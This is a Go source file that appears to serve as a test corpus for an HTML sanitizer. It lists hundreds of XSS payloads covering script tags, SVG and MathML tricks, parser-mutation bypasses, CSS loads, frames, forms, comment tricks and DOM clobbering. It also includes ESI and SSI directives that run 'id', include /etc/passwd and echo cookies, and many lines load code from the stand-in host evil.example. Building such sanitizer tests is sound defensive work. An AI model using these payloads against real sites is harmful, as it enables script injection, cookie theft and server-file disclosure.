package payload

// elements run a script that they are or name.
const elements = `
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<ScRiPt>RUN</sCrIpT>
<script >RUN</script >
<script/x>RUN</script/x>
<script x="</script>">RUN</script>
<script src=//evil.example/x.js></script>
<script src="data:,RUN"></script>
<script type=module>RUN</script>
<script type=text/javascript defer>RUN</script>
<script async src="data:text/javascript,RUN"></script>
<scr<script>ipt>RUN</scr</script>ipt>
<<script>RUN//<</script>
<script>RUN
<script>/*</b>*/RUN</script>
<script><!--RUN//--></script>
<noscript><script>RUN</script></noscript>
<template><script>RUN</script></template>
<slot><script>RUN</script></slot>
<portal src="javascript:RUN"></portal>
<bgsound src="javascript:RUN">
<layer src="javascript:RUN"></layer>
<xml id=x><script>RUN</script></xml>
<link rel=stylesheet href="//evil.example/x.css">
<link rel=preload as=script href="//evil.example/x.js">
<link rel=modulepreload href="//evil.example/x.js">
<link rel=import href="data:text/html,<script>RUN</script>">
<link rel=prefetch href="//evil.example/">
<link rel=manifest href="//evil.example/">
`

// foreign are payloads in SVG and MathML, where other rules hold for what is an
// element, a name and raw text.
const foreign = `
<svg><script>RUN</script></svg>
<svg><script>RUN&#40;1&#41;</script></svg>
<svg><script>&#x61;lert(__xss=1)</script></svg>
<svg><script href="data:,RUN"/></svg>
<svg><script xlink:href="data:,RUN"></script></svg>
<svg onload=RUN>
<svg/onload=RUN>//
<svg><g onload=RUN></g></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><animate onend=RUN attributeName=x dur=1ms></svg>
<svg><set onbegin=RUN attributeName=x></svg>
<svg><animateTransform onbegin=RUN attributeName=transform></svg>
<svg><a xlink:href="javascript:RUN"><text x=9 y=9>x</text></a></svg>
<svg><a href="javascript:RUN"><rect width=99 height=99 /></a></svg>
<svg><a><animate attributeName=href values="javascript:RUN" /><text y=9>x</text></a></svg>
<svg><a><set attributeName=xlink:href to="javascript:RUN" /><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"></use></svg>
<svg><use xlink:href="//evil.example/x.svg#x"></use></svg>
<svg><image href="x" onerror=RUN></image></svg>
<svg><image xlink:href="javascript:RUN"></image></svg>
<svg><feImage href="//evil.example/x.svg"></feImage></svg>
<svg><foreignObject><script>RUN</script></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>
<svg><foreignObject><body onload=RUN></foreignObject></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><style>@import "//evil.example/x.css";</style></svg>
<svg><handler type="text/javascript">RUN</handler></svg>
<svg><discard onbegin=RUN></discard></svg>
<svg><![CDATA[><img src=x onerror=RUN>]]></svg>
<svg><![CDATA[<script>RUN</script>]]></svg>
<svg></svg><![CDATA[<script>RUN</script>]]>
<svg><p><img src=x onerror=RUN></p></svg>
<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>RUN</x:script></svg>
<math><mtext><script>RUN</script></mtext></math>
<math><mi xlink:href="javascript:RUN">x</mi></math>
<math href="javascript:RUN">x</math>
<math><a xlink:href="javascript:RUN">x</a></math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:RUN">x</maction></math>
<math><annotation-xml encoding="text/html"><script>RUN</script></annotation-xml></math>
<math><annotation-xml><img src=x onerror=RUN></annotation-xml></math>
<math><mglyph src="//evil.example/x.png"></mglyph></math>
<math><ms><img src=x onerror=RUN></ms></math>
`

// mutations are read in one way by whoever cleans them, and in another by the
// browser that gets the cleaned text.
const mutations = `
<svg></p><style><a id="</style><img src=1 onerror=RUN>">
<svg><p><style><a id="</style><img src=1 onerror=RUN>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src=1 onerror=RUN>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='RUN'>"></style></h1>
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src='x' onerror='RUN'>">
<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=RUN>">
<noscript><p title="</noscript><img src=x onerror=RUN>">
<noscript><style></noscript><img src=x onerror=RUN></style>
<noembed><p title="</noembed><img src=x onerror=RUN>">
<noframes><p title="</noframes><img src=x onerror=RUN>">
<xmp><p title="</xmp><img src=x onerror=RUN>">
<plaintext><img src=x onerror=RUN>
<textarea><img title="</textarea><img src=x onerror=RUN>">
<title><img title="</title><img src=x onerror=RUN>">
<style><img title="</style><img src=x onerror=RUN>">
<template><p title="</template><img src=x onerror=RUN>">
<template><s><template><s><img src=x onerror=RUN>@shafigullin</s></template></s></template>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=RUN>"></a>
<select><iframe></select><img src=x onerror=RUN></iframe>
<table><tr><td><svg><p></table><img src=x onerror=RUN>
<table><script>RUN</script></table>
<a><a><img src=x onerror=RUN></a>
<p><p><b></p><img src=x onerror=RUN></b>
<b><p></b><script>RUN</script></p>
<image src=x onerror=RUN>
<isindex prompt=x action="javascript:RUN">
<listing>&lt;img onerror=RUN src=x&gt;</listing>
<x/><title>&amp;lt;/title&gt;&lt;img src=x onerror=RUN></title>
<frameset><frame src="javascript:RUN"></frameset>
<html onload=RUN><body onload=RUN>
</body></html><script>RUN</script>
</div></div></div></div><script>RUN</script>
</p></article></section></main><img src=x onerror=RUN>
<p><div></p>x</div>
<li><td><tr><img src=x onerror=RUN>
<option><img src=x onerror=RUN></option>
<colgroup><img src=x onerror=RUN>
<caption><img src=x onerror=RUN></caption>
`

// styles run or load by way of a style sheet, in some browser or another.
const styles = `
<style>@import "//evil.example/x.css";</style>
<style>@import url(javascript:RUN);</style>
<style>body{background:url("//evil.example/x.png")}</style>
<style>body{background:url(javascript:RUN)}</style>
<style>*{behavior:url(#default#time2)}</style>
<style>@font-face{font-family:x;src:url(//evil.example/x)}*{font-family:x}</style>
<style>input[value^=a]{background:url(//evil.example/a)}</style>
<style></style><script>RUN</script>
<div style="background:url(//evil.example/x.png)">x</div>
<div style="background:url('javascript:RUN')">x</div>
<div style="background-image:\75\72\6c\28//evil.example/x\29">x</div>
<div style="width:expression(RUN)">x</div>
<div style="width:exp/**/ression(RUN)">x</div>
<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>
<div style="behavior:url(//evil.example/x.htc)">x</div>
<div style="position:fixed;inset:0;z-index:9">x</div>
<div style=";}*{x:expression(RUN)}">x</div>
<p style="content:'</style><script>RUN</script>'">x</p>
" style="background:url(//evil.example/x.png)
' style='background:url(//evil.example/x.png)
;background:url(//evil.example/x.png)
expression(RUN)
url(javascript:RUN)
@import url(//evil.example/x.css);
`

// documents speak for the whole document.
const documents = `
<base href="//evil.example/">
<base href="javascript:/a/">
<base target=_blank>
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv="refresh" content="0; url=data:text/html,<script>RUN</script>">
<meta http-equiv=set-cookie content="proffer=x">
<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">
<meta charset=utf-7>
<meta name=referrer content=unsafe-url>
<title>x</title><script>RUN</script>
<body onload=RUN>
<body onpageshow=RUN>
<body onhashchange=RUN><a href=#x>x</a>
<body background="javascript:RUN">
<!doctype html><script>RUN</script>
<?xml version="1.0"?><script>RUN</script>
<?xml-stylesheet href="javascript:RUN"?>
<!DOCTYPE x [<!ENTITY y "<script>RUN</script>">]>&y;
<head><script>RUN</script></head>
`

// frames bring another document.
const frames = `
<iframe src="javascript:RUN"></iframe>
<iframe src="//evil.example/"></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<iframe onload=RUN></iframe>
<iframe/src="javas&#99;ript:RUN">
<frame src="javascript:RUN">
<object data="javascript:RUN"></object>
<object data="data:text/html,<script>RUN</script>"></object>
<object data="//evil.example/"></object>
<object onerror=RUN data=x></object>
<object classid="clsid:x"><param name=x value="javascript:RUN"></object>
<embed src="javascript:RUN">
<embed src="//evil.example/x.swf" allowscriptaccess=always>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
<applet code="x" archive="//evil.example/x.jar"></applet>
<fencedframe></fencedframe>
<dialog open><iframe src="javascript:RUN"></iframe></dialog>
`

// forms send somewhere else, or run when they are sent.
const forms = `
<form action="javascript:RUN"><button>x</button></form>
<form action="//evil.example/"><input name=x></form>
<form id=f></form><button form=f formaction="javascript:RUN">x</button>
<button formaction="javascript:RUN">x</button>
<input type=submit formaction="javascript:RUN">
<input type=image src=x onerror=RUN formaction="javascript:RUN">
<input type=image src="//evil.example/x.png">
<form onformdata=RUN><button>x</button></form>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<keygen autofocus onfocus=RUN>
<input onblur=RUN autofocus><input autofocus>
<input type=hidden accesskey=x onclick=RUN>
<input type=hidden oncontentvisibilityautostatechange=RUN style=content-visibility:auto>
<button popovertarget=x onbeforetoggle=RUN>x</button><div popover id=x onbeforetoggle=RUN>x</div>
<button commandfor=x command=show-modal>x</button><dialog id=x oncommand=RUN></dialog>
<label onclick=RUN>x</label>
<output onforminput=RUN>x</output>
<form><input type=submit formtarget=_top formmethod=post formaction="data:text/html,<script>RUN</script>">
</form><form action="//evil.example/">
<button type=submit name=x value="
`

// comments end where some readers do not see it.
const comments = `
<!--><script>RUN</script>-->
<!---><script>RUN</script>-->
<!-- --!><script>RUN</script> -->
<!-- -- ><script>RUN</script> -->
<!-- <!-- --><script>RUN</script> -->
<!--<img src="--><img src=x onerror=RUN//">
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<!--[if IE]>--><script>RUN</script><!--<![endif]-->
<!<script>RUN</script>
<![><img src="]><img src=x onerror=RUN//">
<!-x-><script>RUN</script>
</!--><script>RUN</script>
</ ><script>RUN</script>
</ script><script>RUN</script>
<? foo="><script>RUN</script>">
<!foo="><script>RUN</script>">
</foo="><script>RUN</script>">
<%<script>RUN</script>%>
-->
--!>
--!><img src=x onerror=RUN>
--><!--
<!--
<!-->
<!--->
<!-- offer -->
`

// clobbers take the names of what scripts of the page look for.
const clobbers = `
<img name=body>
<img name=cookie><img name=cookie>
<form name=document><input name=cookie></form>
<form id=x><input id=attributes><input name=attributes></form>
<form name=getElementById></form>
<a id=defaultView></a><a id=defaultView name=location href="//evil.example/"></a>
<a id=__xss href="javascript:RUN"></a>
<input name=submit>
<input id=action name=action>
<iframe name=top></iframe>
<object id=navigator></object>
<img id=currentScript src=x>
<embed name=querySelectorAll>
" id="currentScript
" name="body
' id='addEventListener' x='
__proto__
constructor
`

// includes are instructions to servers and caches in front of a page.
const includes = `
<esi:include src="http://evil.example/" />
<esi:include src="/.proffer/click?t=x" alt="http://evil.example/" onerror="continue"/>
<esi:inline name="/x" fetchable="yes"><script>RUN</script></esi:inline>
<esi:vars>$(HTTP_COOKIE{proffer})</esi:vars>
<esi:remove><script>RUN</script></esi:remove>
<esi:debug/>
<!--esi <script>RUN</script> -->
<!--esi <esi:include src="http://evil.example/" /> -->
<!--#exec cmd="id" -->
<!--#include virtual="/etc/passwd" -->
<!--#include file="x" -->
<!--#echo var="HTTP_COOKIE" -->
<!--#printenv -->
<!--#set var="x" value="<script>RUN</script>" -->
<!--# include virtual="http://evil.example/" -->
"/><esi:include src="http://evil.example/"/><x y="
<?php echo 1; ?>
<? echo 1 ?>
<% Response.Write("x") %>
<%@ include file="x" %>
<jsp:include page="x" />
<c:import url="http://evil.example/" />
`
